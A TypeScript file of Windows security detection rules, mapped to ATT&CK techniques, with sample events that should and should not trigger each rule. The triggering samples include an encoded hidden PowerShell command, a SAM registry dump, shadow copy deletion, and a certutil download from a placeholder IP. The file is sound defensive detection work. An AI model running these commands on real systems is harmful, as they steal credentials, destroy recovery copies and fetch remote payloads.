import type { Condition, Rule } from "../../rule.ts";
import { windows } from "../examples/machines.ts";
import { plainRule } from "../plain-rule.ts";
import { traceRule } from "../trace-rule.ts";

const SOURCES = { sources: ["windows-security"] } as const;
const does = (...signs: readonly string[]): Condition => ({ field: "labels.does", in: signs });
const PROCESS = "4688 process-created";
const SCRIPT = "4104 script-run";
const HIDDEN = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA";
/** Microsoft's tool of administration, by the name that it gives its service: what others install so has another. */
const BY_PSEXEC: Condition = {
  all: [
    { field: "labels.does", equals: "remote-shell" },
    { field: "resource", equals: "PSEXESVC" },
  ],
};
const PSEXEC = { ServiceName: "PSEXESVC", ImagePath: "%SystemRoot%\\PSEXESVC.exe", AccountName: "LocalSystem" };
const task = (command: string): string => `<Task><Actions><Exec><Command>${command}</Command></Exec></Actions></Task>`;

const RESPONSE = [
  "Cut the machine off from the network, and keep its memory.",
  "Change what the identity signs in with, and look at where else it was.",
];

/** What is made to run on a machine, and what is done so that nobody sees it. */
export const WINDOWS_MACHINE: readonly Rule[] = [
  plainRule({
    ...SOURCES,
    id: "windows-service-that-hides",
    title: "{identity_name} installed a service or a task at {labels.host} that does what attackers do: {labels.does}",
    actions: ["4697 service-installed", "7045 service-installed", "4698 task-created", "4702 task-updated"],
    when: { all: [{ field: "labels.does", exists: true }, { not: BY_PSEXEC }] },
    severity: "high",
    attack: { tactic: "Persistence", technique: "T1543" },
    expected: "services and tasks run programs by their paths",
    shows: ["resource", "labels.does", "labels.executable", "labels.runs_as"],
    falsePositives: ["Tools of administration that hand a script over in code."],
    response: RESPONSE,
    fires: ["a task in code", windows(4698, { TaskName: "\\Update", TaskContent: task(HIDDEN) })],
    quiet: ["PsExec of an administrator", windows(7045, PSEXEC)],
  }),
  traceRule({
    ...SOURCES,
    id: "windows-service-by-a-service",
    title: "{identity_name}, a service's account, installed something that runs by itself at {labels.host}: {resource}",
    actions: ["4697 service-installed", "7045 service-installed", "4698 task-created"],
    kinds: ["service-account"],
    when: { any: [{ not: { field: "labels.does", exists: true } }, BY_PSEXEC] },
    attack: { tactic: "Persistence", technique: "T1543" },
    expected: "what deploys software",
    shows: ["resource", "labels.executable", "labels.runs_as"],
    fires: ["a service", windows(4697, { ServiceName: "updater", ServiceFileName: "C:\\updater.exe" })],
    quiet: [
      "by a person",
      windows(4697, { SubjectUserName: "ann", ServiceName: "updater", ServiceFileName: "C:\\updater.exe" }),
    ],
  }),
  plainRule({
    ...SOURCES,
    id: "windows-secrets-dumped",
    title: "{identity_name} took passwords out of {labels.host} ({resource})",
    actions: [PROCESS, SCRIPT],
    when: does("credentials-dumped"),
    severity: "high",
    attack: { tactic: "Credential Access", technique: "T1003" },
    owasp: ["NHI2"],
    expected: "nobody does",
    shows: ["resource", "labels.parent", "labels.host"],
    key: "labels.host",
    falsePositives: ["A copy of the directory for a disaster (`ntdsutil`), at a known time."],
    response: RESPONSE,
    fires: [
      "the registry's",
      windows(4688, { NewProcessName: "C:\\Windows\\System32\\reg.exe", CommandLine: "reg save HKLM\\SAM C:\\t\\sam" }),
    ],
    quiet: [
      "a question",
      windows(4688, { NewProcessName: "C:\\Windows\\System32\\reg.exe", CommandLine: "reg query HKLM\\Software" }),
    ],
  }),
  plainRule({
    ...SOURCES,
    id: "windows-recovery-made-impossible",
    title: "{identity_name} deleted copies from which {labels.host} could be restored",
    actions: [PROCESS],
    when: does("copies-deleted"),
    severity: "high",
    attack: { tactic: "Impact", technique: "T1490" },
    expected: "copies go when newer ones come, by themselves",
    shows: ["resource", "labels.parent", "labels.host"],
    key: "labels.host",
    falsePositives: ["A backup program that makes room for its own."],
    response: RESPONSE,
    fires: [
      "shadow copies",
      windows(4688, {
        NewProcessName: "C:\\Windows\\System32\\vssadmin.exe",
        CommandLine: "vssadmin delete shadows /all /quiet",
      }),
    ],
    quiet: [
      "they are listed",
      windows(4688, { NewProcessName: "C:\\Windows\\System32\\vssadmin.exe", CommandLine: "vssadmin list shadows" }),
    ],
  }),
  plainRule({
    ...SOURCES,
    id: "windows-watch-ended",
    title: "{identity_name} turned off what watches {labels.host}, or what it had seen ({action})",
    actions: [PROCESS, "1102 log-cleared", "104 log-cleared", "4719 audit-policy-changed"],
    when: {
      any: [
        does("log-cleared", "guard-stopped"),
        { field: "action", prefix: "1102" },
        { field: "action", prefix: "104 " },
        // The domain's policy is put into force by the machine itself.
        {
          all: [{ field: "labels.audit", equals: "removed" }, { not: { field: "identity_kind", equals: "workload" } }],
        },
      ],
    },
    severity: "high",
    attack: { tactic: "Defense Impairment", technique: "T1685" },
    expected: "logs are forwarded and written over, and policies come from the domain",
    shows: ["resource", "labels.host"],
    key: "labels.host",
    falsePositives: ["A machine that is set up anew."],
    response: ["Turn it on again (reversible); what was forwarded before is still there.", ...RESPONSE],
    fires: ["the log is cleared", windows(1102)],
    quiet: ["more is watched", windows(4719, { AuditPolicyChanges: "%%8449, %%8451" })],
  }),
  plainRule({
    ...SOURCES,
    id: "windows-shell-by-a-server",
    title: "{labels.parent}, a server, started {resource} at {labels.host} as {identity_name}",
    actions: [PROCESS],
    when: {
      all: [
        {
          field: "labels.parent",
          in: ["w3wp.exe", "sqlservr.exe", "httpd.exe", "nginx.exe", "php-cgi.exe", "tomcat9.exe", "tomcat10.exe"],
        },
        {
          field: "resource",
          in: ["cmd.exe", "powershell.exe", "pwsh.exe", "wscript.exe", "cscript.exe", "mshta.exe", "rundll32.exe"],
        },
      ],
    },
    severity: "high",
    attack: { tactic: "Persistence", technique: "T1505" },
    expected: "what serves the web or a database starts no shell",
    shows: ["resource", "labels.parent", "labels.host"],
    key: "labels.host",
    falsePositives: ["An application that runs scripts by itself (`xp_cmdshell`): it should not."],
    response: RESPONSE,
    fires: [
      "by a web server",
      windows(4688, {
        NewProcessName: "C:\\Windows\\System32\\cmd.exe",
        ParentProcessName: "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
      }),
    ],
    quiet: [
      "by a job",
      windows(4688, {
        NewProcessName: "C:\\Windows\\System32\\cmd.exe",
        ParentProcessName: "C:\\Windows\\System32\\svchost.exe",
      }),
    ],
  }),
  plainRule({
    ...SOURCES,
    id: "windows-command-from-elsewhere",
    title: "{identity_name} fetched code and ran it, or gave itself an account, at {labels.host}: {labels.does}",
    actions: [PROCESS, SCRIPT],
    kinds: ["service-account", "workload"],
    when: does("download-and-run", "user-added", "reverse-shell"),
    severity: "high",
    attack: { tactic: "Execution", technique: "T1059" },
    expected: "a machine runs what was installed",
    shows: ["resource", "labels.does", "labels.parent"],
    key: "labels.host",
    falsePositives: ["What sets machines up: each of its own kind once."],
    response: RESPONSE,
    fires: [
      "certutil",
      windows(4688, {
        NewProcessName: "C:\\Windows\\System32\\certutil.exe",
        CommandLine: "certutil -urlcache -f http://203.0.113.66/a.exe a.exe",
      }),
    ],
    quiet: [
      "a certificate",
      windows(4688, { NewProcessName: "C:\\Windows\\System32\\certutil.exe", CommandLine: "certutil -verify a.cer" }),
    ],
  }),
  traceRule({
    ...SOURCES,
    id: "windows-command-in-code",
    title: "{identity_name} ran a command that was handed over in code at {labels.host}",
    actions: [PROCESS, "4697 service-installed", "7045 service-installed"],
    when: {
      any: [{ all: [{ field: "action", prefix: "4688" }, does("encoded-command", "remote-shell")] }, BY_PSEXEC],
    },
    attack: { tactic: "Execution", technique: "T1059" },
    expected: "tools of administration do so all day",
    key: "labels.host",
    fires: [
      "PowerShell",
      windows(4688, {
        NewProcessName: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        CommandLine: HIDDEN,
      }),
    ],
    quiet: [
      "a file",
      windows(4688, {
        NewProcessName: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        CommandLine: "powershell.exe -File a.ps1",
      }),
    ],
  }),
];
